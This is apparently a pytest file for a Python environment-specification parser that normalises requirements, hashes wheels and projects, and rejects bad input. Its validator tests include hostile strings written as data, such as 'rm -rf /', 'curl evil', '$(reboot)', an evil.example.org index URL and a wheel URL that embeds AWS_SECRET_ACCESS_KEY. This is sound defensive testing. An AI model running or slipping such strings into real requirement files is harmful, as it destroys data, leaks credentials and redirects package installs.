"""What a document may wish for, in one normal form; and what it may not, with what to change."""

import os
from pathlib import Path

import pytest

from dmod.errors import InputError, NotFoundError
from dmod.services.environments import EnvironmentSpec, read_requirements
from dmod.testing.wheels import write_project, write_wheel

PINNED = "registry.example.org/models/snow@sha256:" + "0123456789abcdef" * 4


def parse(document: object, base: Path | None = None, *, local: bool = True) -> EnvironmentSpec:
    return EnvironmentSpec.parse(document, base=base, local=local)


def test_requirements_in_any_order_and_spelling_are_one_wish() -> None:
    one = parse(["Scikit_Learn>=1, <2", "numpy", "snow[Fast,all] ; python_version > '3.8'"])
    two = parse(
        {"requirements": ["snow[all,fast]; python_version>'3.8'", "scikit-learn<2,>=1", "numpy", "numpy"]}
    )
    assert one == two
    assert one.hash == two.hash
    assert one.requirements == ("numpy", "scikit-learn<2,>=1", 'snow[all,fast] ; python_version > "3.8"')


@pytest.mark.parametrize(
    "other",
    [
        ["numpy>=2"],
        {"requirements": ["numpy"], "python": "3.12"},
        {"requirements": ["numpy"], "index": "none"},
        {"requirements": ["numpy"], "index": "https://index.example.org/simple"},
        {"requirements": ["numpy"], "find_links": ["https://wheels.example.org"]},
        {"path": "/opt/numpy"},
        {"image": PINNED},
    ],
)
def test_different_wishes_have_different_hashes(other: object) -> None:
    assert parse(other).hash != parse(["numpy"]).hash


def test_wish_written_as_json_is_read_back(tmp_path: Path) -> None:
    write_wheel(tmp_path, "snow", "1.0")
    write_project(tmp_path / "melt", "melt", "1.0")
    document = {
        "requirements": ["numpy<3", "./snow-1.0-py3-none-any.whl[b,a]", "./melt"],
        "python": "3.12",
        "index": "https://index.example.org/simple",
        "find_links": ["."],
    }
    spec = parse(document, tmp_path)
    assert parse(spec.as_json(), Path("/")).hash == spec.hash
    assert [source.path.name for source in spec.sources] == ["melt", "snow-1.0-py3-none-any.whl"]
    assert spec.as_json()["requirements"][-1] == f"{tmp_path}/snow-1.0-py3-none-any.whl[a,b]"
    for other in ({"path": str(tmp_path)}, {"image": PINNED}):
        assert parse(parse(other).as_json()) == parse(other)


def test_wheel_is_known_by_its_content_and_not_by_its_place(tmp_path: Path) -> None:
    first = write_wheel(tmp_path / "a", "snow", "1.0")
    same = write_wheel(tmp_path / "b", "snow", "1.0")
    other = write_wheel(tmp_path / "c", "snow", "1.0", files={"snow/melt.py": "RATE = 2\n"})
    assert parse([str(first)]).hash == parse([f"snow @ file://{same}"]).hash
    assert parse([str(first)]).hash != parse([str(other)]).hash


def test_project_is_known_by_its_files_but_not_by_what_builds_leave(tmp_path: Path) -> None:
    project = write_project(tmp_path / "melt", "melt", "1.0")
    before = parse(["./melt"], tmp_path).hash
    for left in (".git/HEAD", "build/lib/melt.py", "melt.egg-info/PKG-INFO", "__pycache__/melt.pyc", "x.pyc"):
        (project / left).parent.mkdir(parents=True, exist_ok=True)
        (project / left).write_text("left over")
    assert parse([f"file://{project}"]).hash == before
    (project / "melt.py").write_text("VALUE = 2\n")
    assert parse(["./melt"], tmp_path).hash != before


def test_project_with_a_pipe_or_a_dangling_link_is_read(tmp_path: Path) -> None:
    project = write_project(tmp_path / "melt", "melt", "1.0")
    before = parse([str(project)]).hash
    os.mkfifo(project / "pipe")
    (project / "link").symlink_to("nowhere")
    (project / "up").symlink_to("..")
    assert parse([str(project)]).hash == before


def test_text_is_the_path_of_an_environment_from_where_the_document_lies(tmp_path: Path) -> None:
    spec = parse("envs/snow", tmp_path)
    assert (spec.kind, spec.path) == ("path", f"{tmp_path}/envs/snow")


def test_text_may_name_a_file_of_requirements_with_paths_from_there(tmp_path: Path) -> None:
    write_wheel(tmp_path / "deep", "snow", "1.0")
    (tmp_path / "deep" / "requirements.txt").write_text(
        "\ufeff# what is needed\nnumpy >= 2  # or newer\n\n./snow-1.0-py3-none-any.whl\nscipy \\\n  < 2\n",
        encoding="utf-8",
    )
    spec = parse("deep/requirements.txt", tmp_path)
    assert spec.requirements == ("numpy>=2", "scipy<2")
    assert len(spec.sources) == 1


def test_image_is_pinned_to_its_content() -> None:
    assert parse({"image": PINNED}).image == PINNED
    assert parse(PINNED).kind == "image"
    for image in (
        "snow:latest",
        "snow@sha256:0123",
        PINNED.upper(),
        PINNED + "0",
        "-v@sha256:" + "0" * 64,
        3,
    ):
        with pytest.raises(InputError, match="not pinned"):
            parse({"image": image})


@pytest.mark.parametrize(
    ("text", "message", "hint"),
    [
        ("; rm -rf /", "is no requirement", "such as numpy"),
        ("numpy; rm -rf /", "is no requirement", "such as numpy"),
        ("numpy && curl evil", "is no requirement", "such as numpy"),
        ("$(reboot)", "is no requirement", "such as numpy"),
        ("numpy\n--index-url https://evil.example.org", "line break", "one requirement for each entry"),
        ("numpy @ https://evil.example.org/${AWS_SECRET_ACCESS_KEY}.whl", "variable", "write it out"),
        ("-r other.txt", "is an option", "--file FILE"),
        ("--requirement=other.txt", "is an option", "--file FILE"),
        ("-e ./project", "is an option", "without -e"),
        ("requirements.txt", "is the name of a file", "--file"),
        ("--index-url https://evil.example.org", "is an option", "index:"),
        ("--find-links=/etc", "is an option", "find_links:"),
        ("--config-settings x", "is an option", "leave it out"),
        ("numpy==2.0 --hash=sha256:00", "has an option in it", "locked by dmod itself"),
        ("numpy==2.0 --global-option=x", "has an option in it", "leave it out"),
        ("numpy @ ftp://example.org/numpy.whl", "cannot be installed from", "https"),
        ("numpy @ https:///numpy.whl", "cannot be installed from", "https"),
        ("numpy @ https://me:secret@example.org/n.whl", "user or password", "netrc"),
        ("snow @ git+https://token@example.org/snow", "user or password", "netrc"),
        ("file://elsewhere/snow.whl", "no file of this machine", "file:///"),
        ("", "is no requirement", "such as numpy"),
        (7, "is no requirement", "such as numpy"),
    ],
)
def test_hostile_or_wrong_requirement_is_refused_with_what_to_write(
    text: object, message: str, hint: str
) -> None:
    with pytest.raises(InputError, match=message) as raised:
        parse([text])
    assert hint in (raised.value.hint or "")
    assert "secret" not in str(raised.value).lower() or "AWS" in str(raised.value)


@pytest.mark.parametrize("text", ["/nowhere/at/all.whl", "../../../nowhere", "~/nowhere-at-all", "./a/../b"])
def test_path_to_nowhere_is_not_found(text: str, tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="is not there"):
        parse([text], tmp_path)


@pytest.mark.parametrize("text", ["/etc", "/etc/passwd", "/dev/zero", "/"])
def test_path_of_what_cannot_be_installed_is_refused(text: str) -> None:
    with pytest.raises(InputError, match=r"so no project|cannot be installed"):
        parse([text])


def test_wheel_with_a_wrong_name_is_refused(tmp_path: Path) -> None:
    (tmp_path / "snow.whl").write_bytes(b"")
    with pytest.raises(InputError, match="not named as wheels are"):
        parse(["./snow.whl"], tmp_path)


def test_two_wheels_of_one_name_are_refused(tmp_path: Path) -> None:
    paths = [str(write_wheel(tmp_path / name, "snow", "1.0")) for name in ("a", "b")]
    with pytest.raises(InputError, match="have the same name"):
        parse(paths)


def test_paths_may_be_forbidden_in_requirements(tmp_path: Path) -> None:
    wheel = write_wheel(tmp_path, "snow", "1.0")
    for text in (str(wheel), f"snow @ file://{wheel}", f"file:{wheel}", "./snow", "snow-1.0.tar.gz"):
        with pytest.raises(InputError, match="paths are not allowed here"):
            parse([text], tmp_path, local=False)
    with pytest.raises(InputError, match="paths are not allowed here"):
        parse({"requirements": [], "find_links": str(tmp_path)}, local=False)
    assert parse(["snow @ https://example.org/snow-1.0.whl"], local=False).requirements
    (tmp_path / "r.txt").write_text("not to be read")
    assert parse("r.txt", tmp_path, local=False).kind == "path"


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (7, "is none"),
        ({}, "says none of"),
        ({"python": "3.12"}, "says none of"),
        ({"requirements": [], "path": "/opt/x"}, "more than one of"),
        ({"path": "/opt/x", "python": "3.12"}, "path stands alone"),
        ({"requirements": [], "packages": []}, "no key packages"),
        ({"requirements": "numpy"}, "and no list"),
        ({"requirements": [], "python": 3.12}, "is no version"),
        ({"requirements": [], "python": "/usr/bin/python3"}, "is no version"),
        ({"requirements": [], "python": "3.12; reboot"}, "is no version"),
        ({"requirements": [], "python": "3.10"}, "too old"),
        ({"requirements": [], "index": "file:///srv"}, "cannot be installed from"),
        ({"requirements": [], "index": "--extra-index-url"}, "cannot be installed from"),
        ({"requirements": [], "index": "https://me:secret@example.org"}, "user or password"),
        ({"requirements": [], "index": 7}, "is no address"),
        ({"requirements": [], "find_links": 7}, "and no list"),
        ({"requirements": [], "find_links": [7]}, "is no path"),
        ({"path": 7}, "is no path"),
        ({"path": ""}, "is no path"),
        ("numpy>=2", "is no path that exists"),
    ],
)
def test_wrong_document_is_refused(document: object, message: str) -> None:
    with pytest.raises(InputError, match=message) as raised:
        parse(document)
    assert raised.value.hint


def test_folder_of_wheels_that_is_not_there_is_not_found(tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="is no folder"):
        parse({"requirements": [], "find_links": ["./none"]}, tmp_path)


def test_file_of_requirements_that_is_no_text_is_refused(tmp_path: Path) -> None:
    (tmp_path / "r.txt").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(InputError, match="cannot be read"):
        read_requirements(tmp_path / "r.txt")
    (tmp_path / "r.txt").write_text("-r more.txt\n")
    with pytest.raises(InputError, match="is an option"):
        parse(str(tmp_path / "r.txt"))
